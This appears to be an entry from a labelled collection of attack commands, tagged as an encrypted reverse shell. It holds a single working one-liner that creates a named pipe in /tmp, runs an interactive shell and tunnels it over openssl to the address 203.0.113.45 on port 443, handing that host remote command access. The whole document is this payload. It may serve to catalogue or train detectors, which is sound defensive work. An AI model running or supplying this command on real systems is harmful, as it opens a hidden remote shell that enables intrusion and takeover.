# class: reverse shell; style: encrypted
mkfifo /tmp/.s; /bin/sh -i < /tmp/.s 2>&1 | openssl s_client -quiet -connect 203.0.113.45:443 > /tmp/.s; rm /tmp/.s
